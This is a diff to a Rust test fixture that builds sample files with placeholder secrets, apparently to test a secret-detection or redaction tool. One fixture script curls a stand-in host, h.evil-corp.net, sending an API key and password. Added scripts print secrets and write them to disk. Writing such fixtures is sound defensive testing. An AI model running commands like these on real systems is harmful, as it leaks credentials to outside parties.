@@ -42,6 +42,11 @@ fn tree() -> Tree {
     );
     tree.file(".env", format!("RUNAGENTS_API_KEY={key}\nDATABASE_URL=postgres://joe:{password}@db/x\nOTHER_TOKEN={token}\n"));
     tree.file("run.sh", format!("export K={key}\ncurl -H \"Authorization: Bearer $K\" https://joe:{password}@h.evil-corp.net/\n"));
+    tree.file(
+        "show.py",
+        format!("password = \"{password}\"\nheaders = {{\"token\": \"{token}\"}}\nprint(headers)\nprint(f\"as {{password}}\")\n"),
+    );
+    tree.file("show.sh", format!("PASSWORD={password}\nset -x\necho \"$PASSWORD\" > kept.txt\ncat kept.txt\n"));
     tree
 }
 
